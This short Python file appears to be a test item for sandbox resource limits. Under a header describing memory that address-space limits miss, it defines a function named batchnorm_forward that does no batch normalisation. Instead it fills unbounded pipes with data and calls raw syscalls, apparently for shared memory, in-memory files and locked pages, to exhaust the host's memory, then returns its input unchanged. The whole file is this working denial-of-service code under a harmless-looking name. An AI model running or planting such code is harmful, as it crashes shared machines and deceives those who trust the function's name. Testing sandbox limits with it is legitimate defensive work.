FAMILY = "using up the machine"
ABOUT = "Memory that no limit of addresses counts: pipes, shared segments, files in memory, locked pages."
MOST = 0

# %% batchnorm_forward
import ctypes
import fcntl
import os

def batchnorm_forward(x, gamma, beta, bn_param):
    libc = ctypes.CDLL(None)
    ends = []
    try:
        while True:
            read, write = os.pipe()
            ends += [read, write]
            fcntl.fcntl(write, 1031, 2**20)
            os.set_blocking(write, False)
            os.write(write, b"x" * 2**20)
    except OSError:
        pass
    for number, *args in ((29, 0, 2**30, 0o1777), (319, b"x", 0), (149, 0, 2**30), (151, 3)):
        libc.syscall(number, *args)
    return x, None
